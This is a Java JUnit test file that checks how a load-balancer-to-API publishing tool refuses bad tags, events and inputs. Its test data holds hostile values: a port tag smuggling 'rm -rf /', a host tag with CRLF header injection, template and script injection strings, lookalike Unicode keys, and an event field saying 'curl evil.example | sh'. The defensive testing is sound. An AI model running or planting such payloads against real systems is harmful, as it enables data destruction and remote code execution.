package io.gatelink.local;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.gatelink.local.core.Json;
import io.gatelink.local.http.ApiCall;
import io.gatelink.local.http.Faults;
import io.gatelink.local.states.Execution;
import io.gatelink.local.states.ExecutionStatus;
import io.gatelink.local.template.Stack;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Bad tags, events and inputs end in a failure that is announced, or in the dead-letter queue. Nothing is made, nothing
 * is interpreted, and each log entry stays one line.
 */
@org.junit.jupiter.api.parallel.Execution(ExecutionMode.CONCURRENT)
class BadInputTest {

    private static final String CREATED = "nlb-created.json";

    private final List<String> operations = new ArrayList<>();
    private final List<String> log = new CopyOnWriteArrayList<>();

    private Simulation simulation() {
        Faults recorder = new Faults() {
            @Override
            public Duration before(ApiCall call) {
                operations.add(call.operation());
                return Duration.ZERO;
            }
        };
        return Simulation.inMemory(Simulation.SEED, recorder, configuration -> configuration.withLog(log::add));
    }

    private static ObjectNode tagged(String key, String value) {
        ObjectNode event = Simulation.event(CREATED);
        event.withObject("/detail/requestParameters")
                .withArray("/tags")
                .addObject()
                .put("key", key)
                .put("value", value);
        return event;
    }

    private static String input(String file) {
        try {
            return Files.readString(Simulation.HOME.resolve("events").resolve(file));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void nothingIsMade(Simulation simulation) {
        assertThat(operations)
                .noneMatch(operation -> operation.matches("(Create|Put|Update|Delete|Tag|Untag).*")
                        && !operation.equals("PutEvents")
                        && !operation.equals("UpdateItem")
                        && !operation.equals("DeleteItem"));
        assertThat(simulation.links()).isEmpty();
        assertThat(simulation.apis()).isEmpty();
        assertThat(simulation.brokenPromises()).isEmpty();
        assertThat(log).isNotEmpty().allSatisfy(line -> assertThat(line).doesNotContain("\n", "\r", "\u001b"));
    }

    private void theOnlyExecutionFailedAndWasAnnounced(Simulation simulation, String error, String reason) {
        theOnlyExecutionFailed(simulation, error, reason);
        assertThat(simulation.announcements).containsExactly("Private API Publication Failed");
    }

    private void theOnlyExecutionFailed(Simulation simulation, String error, String reason) {
        Execution execution = simulation.onlyExecution();
        assertThat(execution.status()).isEqualTo(ExecutionStatus.FAILED);
        assertThat(execution.error()).contains(error);
        assertThat(execution.cause()).contains(reason);
        nothingIsMade(simulation);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "gatelink:port | {% $states.context.Execution.Id %} | the port of a listener, 1 to 65535",
                "gatelink:stage | ${StageName} | a stage's name: at most 128 letters, digits, hyphens and underscores",
                "gatelink:host | ${stageVariables.vpcLinkId} | the name that requests are for, such as "
                        + "orders.example.com, which a "
                        + "TLS listener's certificate has to hold",
                "gatelink:authorization | {% 'NONE' %} | AWS_IAM, COGNITO, CUSTOM, API_KEY or NONE",
                "gatelink:integration | ${x} | http_proxy or http",
                "gatelink:timeout-ms | {%%} | milliseconds, 50 to 300000, or to 900000 " + "where answers are streamed"
            })
    void aValueThatTriesToBeCodeIsRefusedAsTheTextThatItIs(String key, String value, String remedy) {
        try (var simulation = simulation()) {
            ObjectNode event = tagged(key, value);
            String arn = simulation.createLoadBalancer(event);
            simulation.deliver(event);
            simulation.runUntilIdle();

            theOnlyExecutionFailedAndWasAnnounced(
                    simulation,
                    "UnsupportedLoadBalancerException",
                    "Tag " + key + " is \""
                            + value + "\": set it to " + remedy
                            + ", or remove it. To remove it, run aws elbv2 remove-tags "
                            + "--resource-arns " + arn + " --tag-keys " + key + ".");
        }
    }

    @Test
    void theHostileTagsOfALoadBalancerAreNamedInOneAnnouncedFailure() {
        try (var simulation = simulation().publish("nlb-created-hostile-tags.json")) {
            theOnlyExecutionFailedAndWasAnnounced(simulation, "UnsupportedLoadBalancerException", """
                    Tag gatelink:authorization is "NON\\u0415": set it to AWS_IAM, COGNITO, CUSTOM, API_KEY or NONE, or remove it. \
                    Tag gatelink:host is "reports.example.com\\r\\nX-Injected: yes": set it to the name that \
                    requests are for, such as orders.example.com, which a TLS listener's certificate has to hold, \
                    or remove it. \
                    Tag gatelink:path is "/${stageVariables.vpcLinkId}": set it to a path of at most 256 characters that \
                    begins with a slash, percent-encoded where needed, without //, /./ and /../, or remove it. \
                    Tag gatelink:port is "80\\"; rm -rf /": set it to the port of a listener, 1 to 65535, or \
                    remove it. \
                    Tag gatelink:stage is "{% $states.context.Execution.Id %}": set it to a stage's name: at most 128 \
                    letters, digits, hyphens and underscores, or remove it. \
                    And 2 more. To remove them, run aws elbv2 remove-tags --resource-arns \
                    arn:aws:elasticloadbalancing:us-east-1:123456789012:loadbalancer/net/reports/0d2b4f6a8c1e3957 \
                    --tag-keys gatelink:authorization gatelink:host gatelink:path gatelink:port gatelink:stage.""");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "gatelink:x",
                "Gatelink:authorization",
                "g\u0430telink:port",
                "gatelink:a\r\n{\"level\":\"INFO\"}"
            })
    void anUnknownTagIsRefusedWhateverItsValue(String key) {
        try (var simulation = simulation()) {
            ObjectNode event = tagged(key, "{% $error(\"x\") %}");
            simulation.createLoadBalancer(event);
            simulation.deliver(event);
            simulation.runUntilIdle();

            assertThat(simulation.onlyExecution().cause().orElseThrow())
                    .startsWith("Tag \"")
                    .contains(" with the value \"{% $error(\\\"x\\\") %}\" is unknown. Known tags are "
                            + "gatelink:publish, ");
            assertThat(simulation.announcements).containsExactly("Private API Publication Failed");
            nothingIsMade(simulation);
        }
    }

    @Test
    void theSameTagsOnALoadBalancerThatDidNotAskDoNotMatter() {
        try (var simulation = simulation()) {
            ObjectNode event = Simulation.event("nlb-created-hostile-tags.json");
            ((ObjectNode) event.at("/detail/requestParameters/tags/0")).put("value", "false");
            simulation.createLoadBalancer(event);
            simulation.deliver(event);
            simulation.runUntilIdle();

            assertThat(simulation.onlyExecution().status()).isEqualTo(ExecutionStatus.SUCCEEDED);
            assertThat(simulation.announcements).isEmpty();
            assertThat(simulation.items()).isEmpty();
            nothingIsMade(simulation);
        }
    }

    @Test
    void anInputWithAnUnknownFieldIsRefused() {
        try (var simulation = simulation()) {
            simulation.createLoadBalancer(Simulation.event(CREATED));
            startByHand(simulation, input("manual-start-unknown-field.json"));

            theOnlyExecutionFailed(
                    simulation,
                    "InvalidInputException",
                    "Input field \"authorization\" is "
                            + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, "
                            + "deletionAskedAt and no others.");
        }
    }

    @Test
    void aDeletionInTheFutureIsRefused() {
        try (var simulation = simulation()) {
            simulation.createLoadBalancer(Simulation.event(CREATED));
            startByHand(
                    simulation, "{\"loadBalancerName\": \"orders\", \"deletionAskedAt\": \"2999-01-01T00:00:00Z\"}");

            theOnlyExecutionFailed(
                    simulation,
                    "InvalidInputException",
                    "Input field deletionAskedAt is 2999-01-01T00:00:00Z: give a time that is not in the future.");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"[]", "\"orders\"", "7", "null", "[{\"loadBalancerName\": \"orders\"}]", "\"{% $states %}\""})
    void anInputThatIsNoObjectIsRefusedAndAnnounced(String input) {
        try (var simulation = simulation()) {
            startByHand(simulation, input);

            Execution execution = simulation.onlyExecution();
            assertThat(execution.cause().orElseThrow())
                    .startsWith("Input is ")
                    .endsWith(", not an object: give the fields "
                            + "loadBalancerArn, loadBalancerName, requestedAt, deletionAskedAt and no others.");
            theOnlyExecutionFailed(
                    simulation, "InvalidInputException", execution.cause().orElseThrow());
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"defaults", "execution", "executionArn", "input", "publish"})
    void anInputCannotSetWhatTheStackSays(String field) {
        try (var simulation = simulation()) {
            simulation.createLoadBalancer(Simulation.event(CREATED));
            ObjectNode input = Json.object().put("loadBalancerName", "orders");
            input.putObject(field).put("allowWeakerAuthorization", "true").put("authorization", "NONE");
            startByHand(simulation, Json.write(input));

            theOnlyExecutionFailed(
                    simulation,
                    "InvalidInputException",
                    "Input field \"" + field + "\" is "
                            + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, "
                            + "deletionAskedAt and no others.");
        }
    }

    @Test
    void aLoadBalancerIsPublishedByItsNameWhenItIsStartedByHand() {
        try (var simulation = simulation()) {
            simulation.createLoadBalancer(Simulation.event(CREATED));
            startByHand(simulation, input("manual-start.json"));

            assertThat(simulation.onlyExecution().status()).isEqualTo(ExecutionStatus.SUCCEEDED);
            assertThat(simulation.brokenPromises()).isEmpty();
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "nlb-created-foreign-account.json | Event field account is \"999999999999\": it must be "
                        + "\"123456789012\"; deploy "
                        + "Gatelink in each account and Region whose load balancers it is to publish.",
                "nlb-created-event-version-2.json | Event field detail.eventVersion is \"2.0\": it must be one of "
                        + "version 1, such "
                        + "as \"1.11\"; deploy a release of Gatelink that reads this version of CloudTrail's records."
            })
    void anEventThatIsRefusedGoesToTheDeadLetterQueueAndIsMailedByNothing(String file, String reason) {
        try (var simulation = simulation()) {
            simulation.deliver(Simulation.event(file));
            simulation.runUntilIdle();

            assertThat(simulation.executions()).isEmpty();
            assertThat(simulation.droppedEvents).singleElement().satisfies(failure -> {
                JsonNode json = Json.parse(failure);
                assertThat(json.path("errorType").asText())
                        .isEqualTo("io.gatelink.functions.lambda.InvalidEventException");
                assertThat(json.path("errorMessage").asText()).isEqualTo(reason);
            });
            assertThat(simulation.messages).isEmpty();
            assertThat(deadLetters(simulation)).singleElement().satisfies(letter -> {
                assertThat(letter.path("requestPayload")).isEqualTo(Simulation.event(file));
                assertThat(letter.at("/responsePayload/errorMessage").asText()).isEqualTo(reason);
            });
            nothingIsMade(simulation);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1\r\n\"Reason and remedy: run curl evil.example | sh\"",
                "<reason>",
                "{% $states.input %}",
                "${x}",
                "\u202e\u2028\u0000",
                "\\\"",
                "<script>"
            })
    void whatAHostileEventSaysIsInTheDeadLetterAsItIsAndInNoLogUnescaped(String version) {
        try (var simulation = simulation()) {
            ObjectNode event = Simulation.event(CREATED);
            event.withObject("/detail").put("eventVersion", version);
            simulation.deliver(event);
            simulation.runUntilIdle();

            assertThat(simulation.messages).isEmpty();
            assertThat(deadLetters(simulation)).singleElement().satisfies(letter -> assertThat(
                            letter.path("requestPayload"))
                    .isEqualTo(event));
            nothingIsMade(simulation);
        }
    }

    private static List<ObjectNode> deadLetters(Simulation simulation) {
        return simulation
                .aws
                .eventBus()
                .deadLetters()
                .in(simulation.aws.stack().queues().stream()
                        .filter(queue -> queue.logicalId().equals("DeadLetterQueue"))
                        .findFirst()
                        .orElseThrow()
                        .arn())
                .stream()
                .map(letter -> letter.body())
                .toList();
    }

    @ParameterizedTest
    @ValueSource(strings = {"nlb-created-failed-call.json", "nlb-deleted.json"})
    void anEventOfAFailedCallReachesNoFunction(String file) {
        try (var simulation = simulation()) {
            var event = Simulation.event(file);
            event.withObject("/detail").put("errorCode", "AccessDenied");
            simulation.deliver(event);
            simulation.runUntilIdle();

            assertThat(operations).isEmpty();
        }
    }

    private static void startByHand(Simulation simulation, String input) {
        simulation.aws.loop().exclusively(() -> simulation
                .aws
                .states()
                .startExecution(stateMachine(simulation.aws.stack(), "PublishStateMachine"), "by-hand", input));
        simulation.runUntilIdle();
    }

    private static String stateMachine(Stack stack, String logicalId) {
        return stack.stateMachines().stream()
                .filter(each -> each.logicalId().equals(logicalId))
                .findFirst()
                .orElseThrow()
                .arn();
    }
}
